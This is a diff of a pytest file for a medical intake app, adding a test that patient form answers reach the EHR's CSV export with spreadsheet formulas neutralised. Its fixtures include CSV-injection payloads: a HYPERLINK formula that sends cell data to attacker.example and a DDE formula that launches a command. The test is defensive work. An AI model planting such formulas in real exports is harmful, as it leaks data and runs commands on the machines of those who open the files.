@@ -6,12 +6,13 @@ from datetime import UTC, date, datetime
 import pytest
 from sqlalchemy import select, update
 
-from intake import ehr, questionnaire
+from intake import consents, ehr, questionnaire
 from intake.ehr import reading
 from intake.extensions import db
 from intake.models import AuditEvent, ChartDocument, ExportBatch, Submission, SubmissionStatus
+from intake.submissions import Evidence, Signing, submit_draft
 from tests.csv_reading import expected_row, parse, unneutralise
-from tests.factories import make_submission
+from tests.factories import make_draft, make_submission, signature_payload
 
 HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
 
@@ -91,6 +92,43 @@ def test_every_value_round_trips_and_formulas_are_neutralised(app_context):
         }
         assert restored == expected
     assert hashlib.sha256(data).hexdigest() == batch.sha256
+
+
+def test_what_a_patient_signs_on_the_tablet_is_what_the_ehr_receives(app_context):
+    """Through the real submission service: typed input, checked, stored, exported."""
+    _draft, token = make_draft(
+        answers={
+            "first_name": "Zoë",
+            "last_name": "Nguyễn",
+            "phone": "(312) 555-0142 ext. 7",
+            "emergency_contact_name": "=cmd|' /C calc'!A0",
+            "emergency_contact_phone": "+44 20 7946 0958",
+            "visit_reason": HOSTILE,
+            "pain_areas": ["other"],
+            "pain_areas_other": "+1 toe",
+            "better_with": "@SUM(A1)",
+            "anything_else": 'She said "ouch",\nthen left; -2 stars',
+        }
+    )
+    initials = {clause.id: "ZN" for clause in consents.current().clauses}
+    signing = Signing(initials=initials, drawn=signature_payload(), agreed=True)
+    submitted = submit_draft(token, signing, Evidence(device_label="Front desk 1"))
+
+    _batch, data = _export_new()
+    _header, (row,) = parse(data)
+    stored = db.session.get(Submission, submitted.id)
+    restored = {
+        name: unneutralise(value) if column.free_text else value
+        for (name, value), column in zip(row.items(), ehr.COLUMNS, strict=True)
+    }
+    assert restored == expected_row(stored)
+    assert row["emergency_contact_name"] == "'=cmd|' /C calc'!A0"
+    assert row["visit_reason"] == "'" + HOSTILE
+    assert (row["pain_areas_other"], row["better_with"]) == ("'+1 toe", "'@SUM(A1)")
+    assert row["anything_else"] == 'She said "ouch",\nthen left; -2 stars'
+    assert (row["first_name"], row["last_name"]) == ("Zoë", "Nguyễn")
+    assert row["phone"] == "(312) 555-0142 ext. 7"
+    assert row["emergency_contact_phone"] == "+44 20 7946 0958"
 
 
 def test_raw_export_keeps_every_value_exactly(app_context):
